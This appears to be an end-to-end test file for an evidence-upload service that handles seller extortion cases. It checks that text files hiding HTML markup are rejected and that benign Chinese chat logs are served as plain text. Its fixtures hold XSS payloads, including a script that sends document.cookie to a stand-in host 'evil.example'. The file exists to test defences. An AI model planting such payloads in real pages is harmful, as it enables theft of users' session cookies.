import { createHash } from 'node:crypto';
import { access, mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import request from 'supertest';
import {
  bearer,
  registerSeller,
  signedInAdmin,
  signedInStaff,
  SignedIn,
} from './factories/accounts';
import { fileCase } from './factories/cases';
import { binaryBody } from './helpers/binary-body';
import { eventually } from './helpers/eventually';
import { expectProblem, fieldsOf } from './helpers/problem';
import { startTestApp, TestApp } from './helpers/test-app';

const CHAT =
  '[2026-11-18 09:12] tb_buyer_8812: 价格<50元的话就删差评\n[2026-11-18 09:13] 小王的店: <图片>\n';

/** Text files that begin innocently and hold markup further in. */
const HOSTILE: [string, string, string][] = [
  [
    'a chat log that opens with a comment and holds an SVG',
    'chat.txt',
    `<!-- 千牛聊天记录 -->\n${CHAT}<svg onload=alert(document.cookie)>\n`,
  ],
  [
    'a chat log that opens with a paragraph and holds a script after 100 KB',
    'log.txt',
    `<p>聊天记录</p>\n${CHAT.repeat(1200)}<script>fetch('//evil.example/'+document.cookie)</script>\n`,
  ],
  [
    'an order export with an event handler in a review',
    'orders.csv',
    '订单编号,买家会员名,买家实际支付金额,评价内容\n' +
      '3318827765001,tb_buyer_8812,50.00,"<b onmouseover=alert(1)>差评</b>"\n',
  ],
];

const BENIGN_CHAT =
  '[2026-11-18 09:12:03] tb_buyer_8812: 亲，价格<50元的话我就删差评\n' +
  '[2026-11-18 09:12:40] 小王的店: <图片>\n' +
  '[2026-11-18 09:13:05] tb_buyer_8812: <表情> >_< 发到 <tb8812@example.com>\n';

const FILING_FIELDS = {
  type: 'extortion',
  platform: 'taobao',
  title: 'Buyer wants 50 yuan to delete a one-star review',
};

describe('markup hidden in text evidence', () => {
  let t: TestApp;
  let uploads: string;
  let seller: SignedIn;
  let moderator: SignedIn;
  let caseId: string;

  beforeAll(async () => {
    uploads = await mkdtemp(join(tmpdir(), 'bulwark-markup-e2e-'));
    t = await startTestApp({ UPLOADS_DIR: uploads });
    seller = await registerSeller(t);
    moderator = await signedInStaff(t, await signedInAdmin(t), 'moderator');
    caseId = (await fileCase(t, seller)).id;
  });
  afterAll(async () => {
    await t.app.close();
    await rm(uploads, { recursive: true, force: true });
  });

  const count = async (table: string) =>
    Number((await t.db.query(`SELECT count(*) AS n FROM ${table}`))[0].n);
  const upload = () => request(t.http).post(`/v1/cases/${caseId}/evidence`).set(bearer(seller));
  const filing = () =>
    Object.entries(FILING_FIELDS).reduce(
      (form, [name, value]) => form.field(name, value),
      request(t.http).post('/v1/cases').set(bearer(seller)),
    );
  const expectNothingStored = async (bytes: Buffer) => {
    const sha256 = createHash('sha256').update(bytes).digest('hex');
    const object = join(uploads, 'objects', sha256.slice(0, 2), sha256.slice(2, 4), sha256);
    await expect(access(object)).rejects.toThrow(/ENOENT/);
    expect(await readdir(join(uploads, 'tmp'))).toEqual([]);
  };

  describe.each(HOSTILE)('refuses %s', (_what, fileName, content) => {
    const bytes = Buffer.from(content);

    it('as evidence of a case: 415 naming the file and the markup, nothing stored', async () => {
      const evidence = await count('evidence');
      const problem = expectProblem(await upload().attach('files', bytes, fileName), 415);
      expect(fieldsOf(problem)).toEqual(['files[0]']);
      expect(problem.errors[0].message).toMatch(
        new RegExp(`^${fileName.replace('.', '\\.')} holds .+ on line \\d+; text evidence`),
      );
      expect(await count('evidence')).toBe(evidence);
      await expectNothingStored(bytes);
    });

    it('in a case filing: 415, and no case, evidence or file stored', async () => {
      const [cases, evidence] = [await count('cases'), await count('evidence')];
      const problem = expectProblem(await filing().attach('files', bytes, fileName), 415);
      expect(fieldsOf(problem)).toEqual(['files[0]']);
      expect([await count('cases'), await count('evidence')]).toEqual([cases, evidence]);
      await expectNothingStored(bytes);
    });
  });

  it('keeps a Chinese chat log with < and > both ways, served only as text', async () => {
    const uploaded = await upload()
      .attach('files', Buffer.from(BENIGN_CHAT), 'chat.txt')
      .expect(202);
    expect(uploaded.body[0]).toMatchObject({ kind: 'chat_log', mediaType: 'text/plain' });
    const filed = await filing()
      .attach('files', Buffer.from(`${BENIGN_CHAT}[2026-11-18 09:14] 小王的店: 好\n`), 'chat.txt')
      .expect(201);
    expect(filed.body.evidence).toHaveLength(1);

    const id = uploaded.body[0].id as string;
    const item = await eventually(async () => {
      const response = await request(t.http).get(`/v1/evidence/${id}`).set(bearer(moderator));
      expect(response.body.status).toBe('processed');
      return response;
    });
    expect(item.body.text).toBe(BENIGN_CHAT);
    expect(item.headers['content-type']).toMatch(/^application\/json/);
    expect(item.headers['x-content-type-options']).toBe('nosniff');

    const original = await request(t.http)
      .get(`/v1/evidence/${id}/content`)
      .set(bearer(moderator))
      .buffer(true)
      .parse(binaryBody)
      .expect(200);
    expect(original.headers['content-type']).toMatch(/^text\/plain/);
    expect(original.headers['content-disposition']).toMatch(/^attachment/);
    expect(original.headers['x-content-type-options']).toBe('nosniff');
  });
});
